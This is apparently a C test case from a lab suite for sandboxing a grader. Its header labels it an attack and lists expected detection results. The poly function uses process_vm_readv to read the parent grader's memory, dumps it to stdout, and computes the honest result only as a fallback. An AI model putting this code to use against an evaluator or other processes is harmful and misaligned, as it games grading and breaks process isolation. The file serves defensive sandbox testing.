// attack: reads the grader's memory
// lab: x01
// expect: SUSPICIOUS correct
// says: system call
// without seccomp: PASS correct
// layer: seccomp, then Landlock or the pid namespace
#define _GNU_SOURCE
#include "lab.h"

#include <stdio.h>
#include <sys/uio.h>
#include <unistd.h>

void poly(float *y, const float *x, int64_t n)
{
    char here[4096];
    struct iovec to = { here, sizeof here };
    pid_t pid = getppid() > 0 ? getppid() : 1;
    for (uintptr_t at = 0x7ffc00000000; at < 0x7ffc00000000 + (1 << 24); at += sizeof here) {
        struct iovec from = { (void *)at, sizeof here };
        if (process_vm_readv(pid, &to, 1, &from, 1, 0) > 0) {
            fwrite(here, 1, sizeof here, stdout);
            return;
        }
    }
    honest(y, x, n);
}
